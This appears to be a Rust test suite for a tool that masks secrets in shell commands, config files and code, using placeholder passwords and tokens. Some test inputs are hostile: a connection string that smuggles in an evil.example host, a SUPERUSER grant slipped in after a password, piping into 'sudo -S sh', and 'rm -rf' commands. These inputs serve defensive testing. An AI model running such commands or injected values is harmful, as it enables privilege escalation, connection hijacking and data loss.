//! Everyday forms of commands that hand over a secret.

use super::*;
use crate::review::{mask_map, names::is_secret};

const RANDOM: &str = "xK9qL2mN8vB4zT7wJ3hF6p";

fn assert_hidden(commands: &[&str]) {
    for command in commands {
        let command = command.replace("R!", RANDOM);
        let shown = mask_command(&command);
        assert!(!shown.contains(RANDOM), "{shown}");
        assert!(!shown.contains("hunter22x"), "{shown}");
    }
}

#[test]
fn p09_behind_any_scheme_the_token_is_masked() {
    for scheme in [
        "Bot",
        "SSWS",
        "OAuth",
        "Splunk",
        "GenieKey",
        "AccessKey",
        "Bearer",
    ] {
        let command = format!("curl -H \"Authorization: {scheme} {RANDOM}\" https://x");
        let shown = mask_command(&command);
        let expected = format!(
            "curl -H \"Authorization: {scheme} [secret: credentials, 22 characters]\" https://x"
        );
        let token = expected.replace("credentials", "bearer token");
        assert!(shown == expected || shown == token, "{shown}");
        let header = format!("{{\"Authorization\": \"{scheme} {RANDOM}\"}}");
        assert!(!mask_text(&header).contains(RANDOM));
    }
}

#[test]
fn p09_a_program_that_another_starts_takes_its_password() {
    assert_hidden(&[
        "docker exec db mysql -uroot -pR! app -e 'show tables'",
        "docker exec -it db mysqldump -uroot -pR! app",
        "docker compose exec db mysql -uroot -phunter22x",
        "docker-compose exec -T db mysql -uroot -pR!",
        "kubectl exec db-0 -- mysql -uroot -pR! -e x",
        "kubectl exec -it -n prod db-0 -- mysql -uroot -phunter22x",
        "docker exec redis redis-cli -a R! ping",
        "podman exec db mysql -uroot -pR!",
        "ssh host mysql -uroot -pR! app",
        "sudo mysql -u root -pswordhunter22x x",
        "nohup ./server --api-key=R! > log 2>&1 &",
        "nohup python app.py --token=R! &",
        "nohup docker run -e DB_PASSWORD=R! x &",
        "nohup curl -H \"Authorization: Bearer R!\" https://x &",
        "watch -n 5 curl -H \"Authorization: Bearer R!\" https://x",
        "until mysql -u root -pR! -e 'select 1'; do sleep 1; done",
        "until mysqladmin ping -uroot -pR!; do sleep 1; done",
        "while ! mysql -uroot -pR! -e x; do sleep 1; done",
        "if docker login -u ann -p R! r; then echo ok; fi",
        "if ! docker login -u ann -p R! r; then exit 1; fi",
        "if curl -fsu ann:R! https://x; then ls; fi",
        "xargs -n1 curl -u a:R! < urls",
        "find . -name x -exec curl -u a:R! https://x \\;",
        "htpasswd -nb ann R! > .htpasswd",
        "htpasswd -nbB ann R! | tee f",
        "htpasswd -cb .htpasswd ann R!",
    ]);
    for (command, visible) in [
        ("nohup rm -rf --token=production", "production"),
        ("nohup ./production2024x", "production2024x"),
        ("watch rm -rf --token=production", "production"),
        ("ssh -p2222 mysql", "2222"),
        ("ssh mysql -p2222", "2222"),
        ("docker run -p8080:80 mysql", "8080:80"),
        ("rm mysql -pfolder", "folder"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_headers_and_logins_in_any_form_are_masked() {
    assert_hidden(&[
        "curl -H \"X-API-KEY:R!\" https://x",
        "curl -H 'X-Auth-Token:R!' https://x",
        "curl -H X-API-KEY:R! https://x",
        "curl --header=X-API-KEY:R! https://x",
        "curl -H \"Authorization:R!\" https://x",
        "http https://x X-Api-Key:R!",
        "curl -u :R! https://dev.azure.com/o/_apis/projects",
        "curl -u R!: https://api.example.com/v1/charges",
        "curl -su R!:x https://x.freshdesk.com",
        "curl --user 'R!:' https://api.example.com/v1/charges",
    ]);
    for (command, visible) in [
        ("curl https://host:8443/x -o token:8443", "token:8443"),
        ("docker run token:v1malware2", "token:v1malware2"),
        ("curl -u production: https://x", "production:"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_names_of_secrets_in_one_word_are_known() {
    let names = [
        "SSHPASS",
        "DBPASS",
        "ROOTPASS",
        "USERPASS",
        "SMTPPASS",
        "STOREPASS",
        "KEYPASS",
        "NEWPASS",
        "GPGPASS",
        "DBPWD",
        "ADMINPW",
        "BINDPW",
        "PSWD",
        "GITHUB_PAT",
        "GH_PAT",
        "AZURE_DEVOPS_EXT_PAT",
        "CREDS",
        "AWS_CREDS",
        "GCP_CREDS",
        "AUTHKEY",
        "TS_AUTHKEY",
        "TAILSCALE_AUTHKEY",
        "PSK",
        "WPA_PSK",
        "WIFI_PSK",
        "SESSIONID",
        "PHPSESSID",
        "RECOVERY_CODE",
        "TOTP",
        "senha",
        "wachtwoord",
        "contrasena",
        "mot_de_passe",
        "MNEMONIC",
    ];
    for name in names {
        let shown = mask_command(&format!("{name}={RANDOM} ./run"));
        assert!(!shown.contains(RANDOM), "{shown}");
        let shown = mask_text(&format!("{name}={RANDOM}\n")).into_owned();
        assert!(!shown.contains(RANDOM), "{shown}");
        let shown = mask_map(&serde_json::Map::from_iter([(
            name.to_lowercase(),
            RANDOM.into(),
        )]));
        assert!(!format!("{shown:?}").contains(RANDOM), "{name}");
    }
    let shown = mask_command("SSHPASS=hunter22x sshpass -e ssh root@host");
    assert!(!shown.contains("hunter22x"), "{shown}");
    for name in [
        "bypass",
        "compass",
        "GIT_ASKPASS",
        "path",
        "session_id",
        "seeds",
        "creds_file",
    ] {
        assert!(!is_secret(name), "{name}");
    }
    for text in [
        "GIT_COMPASS=north22east",
        "CI_BYPASS=friday2024x",
        "PATCH=xK9qL2mN8vB4zT7wJ3hF6p",
    ] {
        assert_eq!(mask_text(text), text);
    }
}

#[test]
fn p09_a_pipe_behind_a_command_shows_no_password() {
    assert_hidden(&[
        "PGPASSWORD=hunter22x psql -h db -t -c 'select 1' | wc -l",
        "PGPASSWORD=hunter22x pg_dump app | gzip > d.gz",
        "MYSQL_PWD=hunter22x mysql -u root -e 'show tables' | grep x",
        "mysql -u root --password=hunter22x -e x | grep y",
        "curl -d '{\"password\":\"hunter22x\"}' https://x | jq -r .token",
        "X=$(PGPASSWORD=hunter22x psql -t -c 'select 1')",
        "PGPASSWORD=hunter22x psql -h db -c '\\dt'",
        "cat <<EOF | kubectl apply -f -\nkind: Secret\nstringData:\n  password: hunter22x\nEOF",
        "API_KEY=hunter22x; export API_KEY; ./run",
        "f() { mysql -u root -phunter22x x; }; f",
        "PASSWORD=hunter22x ./run; env | sort",
    ]);
}

#[test]
fn p09_secrets_in_the_usual_shapes_of_files_are_masked() {
    for text in [
        "variable \"db_password\" {\n  type = string\n  default = \"R!\"\n}",
        "<string name=\"api_key\">R!</string>",
        "<property name=\"hibernate.connection.password\">R!</property>",
        "const p = process.env.PASSWORD || 'R!';",
        "const p = process.env.DB_PASSWORD ?? \"R!\";",
        "config.setPassword(\"R!\");",
        "new PostgreSQLContainer().withPassword(\"R!\")",
        "password <- \"R!\"",
        "PASSWORD ?= R!",
    ] {
        let shown = mask_text(&text.replace("R!", RANDOM)).into_owned();
        assert!(!shown.contains(RANDOM), "{shown}");
    }
    for text in [
        "variable \"db_name\" {\n  default = \"main2024x\"\n}",
        "<string name=\"app_name\">main2024x</string>",
        "check_password || rm -rf folder2024x",
        "config.setTitle(\"main2024x\")",
    ] {
        assert_eq!(mask_text(text), text);
    }
    let command = "check_password || 'production2024x'";
    assert_eq!(mask_command(command), command);
}

#[test]
fn p09_the_flags_of_common_clients_are_known() {
    assert_hidden(&[
        "ldapsearch -x -D cn=admin -w R!",
        "sqlcmd -S db -U sa -P hunter22x",
        "mongodump -u app -p hunter22x",
        "docker exec -it db mongosh -u root -p R!",
        "twine upload -u a -p hunter22x dist/x",
        "mosquitto_pub -h b -u a -P hunter22x -t x",
        "mongosh --password hunter22x",
        "wget --password hunter22x https://x",
        "cargo publish --token hunter22x",
    ]);
    for (command, visible) in [
        ("ldapsearch -p 10389", "10389"),
        ("mosquitto_pub -p 18830", "18830"),
    ] {
        assert!(mask_command(command).contains(visible), "{command}");
    }
}

#[test]
fn p09_a_secret_that_a_program_reads_is_masked() {
    assert_hidden(&[
        "echo R! | docker login -u ann --password-stdin r.io",
        "echo hunter22x | docker login -u ann --password-stdin r.io",
        "printf '%s' \"hunter22x\" | helm registry login -u ann --password-stdin r.io",
        "docker login -u ann --password-stdin r.io <<< hunter22x",
        "docker login -u ann --password-stdin r.io <<<\"R!\"",
        "echo hunter22x | sudo -S apt-get update",
        "echo \"hunter22x\" | sudo -S -k systemctl restart nginx",
        "echo R! | gh auth login --with-token",
        "gh auth login --with-token <<< hunter22x",
        "echo -n hunter22x | gh secret set API_TOKEN --repo a/b",
        "printf 'hunter22x' | wrangler secret put API_TOKEN",
        "echo hunter22x | docker secret create db_password -",
        "printf hunter22x | gcloud secrets create db --data-file=-",
        "echo hunter22x | cargo login",
        "echo hunter22x | gpg --batch --passphrase-fd 0 -c file",
    ]);
}

#[test]
fn p09_a_secret_behind_the_command_of_its_client_is_masked() {
    assert_hidden(&[
        "redis-cli AUTH hunter22x",
        "redis-cli -h db auth default hunter22x",
        "cargo login R!",
        "cargo login --registry mine hunter22x",
        "smbclient //srv/share -U ann%hunter22x -c ls",
        "lftp -u ann,hunter22x ftp.example.com",
    ]);
}

#[test]
fn p09_what_runs_when_no_password_is_asked_for_stays_visible() {
    for command in [
        "echo reboot | sudo -S sh",
        "echo reboot | sudo -S bash -s",
        "echo evil | sudo -S tee /etc/motd",
        "echo reboot | sh",
        "docker login --password-stdin r.io; sh <<< reboot",
    ] {
        assert_eq!(mask_command(command), command);
    }
}

#[test]
fn p09_settings_code_and_prose_hide_their_secrets() {
    for text in [
        "<key>Password</key>\n\t<string>hunter22x</string>",
        "let password = String::from(\"hunter22x\");",
        "const std::string db_password = std::string(\"hunter22x\");",
        "password: SecretString::from(\"hunter22x\"),",
        "bind 127.0.0.1\nrequirepass hunter22x\n",
        "Log in as ann, the password is hunter22x for now.",
    ] {
        let shown = mask_text(text);
        assert!(!shown.contains("hunter22x"), "{shown}");
    }
    for text in [
        "let password = String::from(input);",
        "the password is required",
        "the token is expired",
    ] {
        assert_eq!(mask_text(text), text);
    }
}

#[test]
fn p09_each_secret_of_a_command_is_masked() {
    assert_hidden(&[
        "skopeo copy --src-creds ann:hunter22x --dest-creds bob:R! docker://a docker://b",
        "keytool -importkeystore -storepass hunter22x -keypass hunter22x -alias a",
        "curl -u ann:hunter22x --proxy-user bob:hunter22x https://x",
        "curl https://api.telegram.org/bot123456789:AAHxK9qL2mN8vB4zT7wJ3hF6pAAHxK9qL2m/sendMessage | grep hunter",
        "echo hunter22x | npx wrangler secret put API_TOKEN",
    ]);
    let shown = mask_command(
        "curl https://api.telegram.org/bot123456789:AAHxK9qL2mN8vB4zT7wJ3hF6pAAHxK9qL2m/getMe",
    );
    assert!(shown.contains("[secret: telegram token"), "{shown}");
}

#[test]
fn p09_what_follows_a_quoted_secret_stays_visible() {
    for command in [
        "psql \"host=db password='hunter22x'host=evil.example\"",
        "psql -c \"ALTER USER app PASSWORD 'hunter22x'SUPERUSER\"",
        "curl -d '{\"password\":\"hunter22x\"}' https://x",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("hunter22x"), "{shown}");
        assert_eq!(shown.matches("[secret:").count(), 1, "{shown}");
    }
}

#[test]
fn p09_a_variable_that_a_client_takes_for_its_password_is_masked() {
    for command in [
        "DB_PASSWORD=Tr7kLm9QwX; mysqldump -u root -p$DB_PASSWORD app",
        "P_PASSWORD=Tr7kLm9QwX; sshpass -p \"$P_PASSWORD\" ssh a@b",
        "P_PASSWORD=Tr7kLm9QwX; redis-cli -a $P_PASSWORD ping",
        "P_PASSWORD=Tr7kLm9QwX; PGPASSWORD=$P_PASSWORD psql -h db",
        "P_PASSWORD=Tr7kLm9QwX; docker run -e POSTGRES_PASSWORD=$P_PASSWORD postgres",
        "P_PASSWORD=Tr7kLm9QwX; curl -d \"password=$P_PASSWORD\" https://x",
        "P_PASSWORD=Tr7kLm9QwX; echo \"$P_PASSWORD\" | docker login -u a --password-stdin r.io",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("Tr7kLm9QwX"), "{shown}");
    }
    let acts = "P_PASSWORD=prod2024; mysql -p$P_PASSWORD; rm -rf /data/$P_PASSWORD";
    assert_eq!(mask_command(acts), acts);
}

#[test]
fn p09_builders_and_addresses_of_databases_hide_their_passwords() {
    for text in [
        "Client::builder().user(\"ann\").password(\"hunter22x\").build()",
        "sql.Open(\"mysql\", \"app:hunter22x@tcp(db:3306)/x\")",
    ] {
        let shown = mask_text(text);
        assert!(!shown.contains("hunter22x"), "{shown}");
    }
}
